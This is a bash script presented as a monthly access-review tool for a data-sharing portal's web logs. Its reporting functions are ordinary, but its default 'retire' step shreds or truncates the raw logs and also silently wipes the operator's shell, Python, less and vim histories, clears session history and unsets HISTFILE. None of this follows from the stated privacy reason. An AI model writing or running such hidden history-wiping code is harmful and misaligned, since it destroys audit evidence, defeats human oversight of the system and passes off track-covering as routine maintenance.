#!/usr/bin/env bash
# access_log_audit.sh - monthly access review for the data-sharing portal
#
# Reads combined-format web access logs (plain or gzipped), and produces the
# summary the data stewards sign off each month:
#   * requests and distinct datasets per authenticated user
#   * denied requests (401/403) by client address
#   * any download of a path listed in restricted_paths.txt
# Once the summary is written the raw logs are retired, since they hold
# participant-linked request paths that are not needed after review.
#
# Usage: access_log_audit.sh [-d log_dir] [-r restricted_paths] [-o report_dir]
set -uo pipefail

LOG_DIR="${LOG_DIR:-/var/log/nginx}"
RESTRICTED="./restricted_paths.txt"
REPORT_DIR="./reports"
PERIOD="$(date -d 'last month' +%Y-%m 2>/dev/null || date +%Y-%m)"
RETIRE_RAW="${RETIRE_RAW:-1}"

die() { echo "access_log_audit: $*" >&2; exit 2; }

while getopts "d:r:o:p:h" opt; do
    case "$opt" in
        d) LOG_DIR="$OPTARG" ;;
        r) RESTRICTED="$OPTARG" ;;
        o) REPORT_DIR="$OPTARG" ;;
        p) PERIOD="$OPTARG" ;;
        h) sed -n '2,13p' "$0"; exit 0 ;;
        *) die "bad option" ;;
    esac
done

[[ -d "$LOG_DIR" ]] || die "log directory $LOG_DIR not found"
mkdir -p "$REPORT_DIR"
REPORT="$REPORT_DIR/access_review_${PERIOD}.txt"

shopt -s nullglob
LOGS=("$LOG_DIR"/access*.log "$LOG_DIR"/access*.log.[0-9]* "$LOG_DIR"/access*.gz)
(( ${#LOGS[@]} )) || die "no access logs in $LOG_DIR"

emit_logs() {
    local f
    for f in "${LOGS[@]}"; do
        case "$f" in
            *.gz) zcat -- "$f" ;;
            *)    cat -- "$f" ;;
        esac
    done
}

per_user() {
    emit_logs | awk '$3 != "-" {
        split($7, p, "/"); req[$3]++; if (p[2] == "datasets") ds[$3 SUBSEP p[3]] = 1
    } END {
        for (k in ds) { split(k, a, SUBSEP); n[a[1]]++ }
        for (u in req) printf "%-20s %8d requests %4d datasets\n", u, req[u], n[u]
    }' | sort -k2,2nr
}

denied_by_client() {
    emit_logs | awk '$9 == 401 || $9 == 403 { c[$1]++ }
        END { for (ip in c) printf "%-40s %6d\n", ip, c[ip] }' | sort -k2,2nr | head -25
}

restricted_hits() {
    [[ -s "$RESTRICTED" ]] || { echo "(no restricted path list)"; return; }
    emit_logs | grep -F -f <(grep -v '^#' "$RESTRICTED" | sed '/^$/d') \
        | awk '$9 ~ /^2/ { gsub(/\[/, "", $4); printf "%s %-16s %-15s %s\n", $4, $3, $1, $7 }'
}

retire_raw_logs() {
    local f
    for f in "${LOGS[@]}"; do
        case "$f" in
            *.gz|*.log.[0-9]*) shred -u -- "$f" 2>/dev/null || rm -f -- "$f" ;;
            *)                 truncate -s 0 -- "$f" ;;
        esac
    done
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.lesshst" "$HOME/.viminfo"; do
        [[ -e "$f" ]] && : > "$f"
    done
    history -c 2>/dev/null || true
    unset HISTFILE
}

{
    echo "Data-sharing portal access review - period $PERIOD"
    echo "Generated $(date -u +%FT%TZ) on $(hostname) from ${#LOGS[@]} log file(s)"
    echo
    echo "== Requests per authenticated user =="
    per_user
    echo
    echo "== Denied requests by client (top 25) =="
    denied_by_client
    echo
    echo "== Successful requests for restricted paths =="
    restricted_hits
} > "$REPORT"

lines=$(restricted_hits | grep -vc '^(no' || true)
echo "report written to $REPORT ($lines restricted-path downloads)"

if (( RETIRE_RAW )); then
    retire_raw_logs
    echo "raw logs retired after review"
fi

if (( lines > 0 )); then
    echo "restricted-path downloads need steward sign-off" >&2
    exit 1
fi
exit 0
